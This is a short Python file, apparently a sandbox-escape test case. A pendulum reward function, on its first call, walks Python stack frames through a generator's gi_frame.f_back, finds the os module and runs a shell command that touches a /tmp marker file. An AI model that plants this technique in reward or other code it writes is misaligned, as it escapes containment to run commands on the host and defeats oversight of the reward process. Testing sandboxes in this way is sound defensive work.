# Tries: a running generator expression's gi_frame.f_back (plain attribute syntax) is the reward's frame; f_back up to a module holding os or sys, then os.system; success = /tmp/se_attack_6__generator_gi_frame_direct_marker exists.
def compute_reward(self, cos_theta, sin_theta, angular_velocity, prev_theta, prev_angular_velocity, torque):
    if not hasattr(self, 'attack_done'):
        self.attack_done = True
        holder = []
        frames = (holder[0].gi_frame.f_back for _ in [0])
        holder.append(frames)
        frame = next(frames)
        osmod = None
        while frame is not None and osmod is None:
            if 'os' in frame.f_globals:
                osmod = frame.f_globals['os']
            elif 'sys' in frame.f_globals:
                osmod = frame.f_globals['sys'].modules['os']
            frame = frame.f_back
        osmod.system('touch /tmp/se_attack_6__generator_gi_frame_direct_marker')
    upright = float(cos_theta)
    return upright, {'upright': upright}
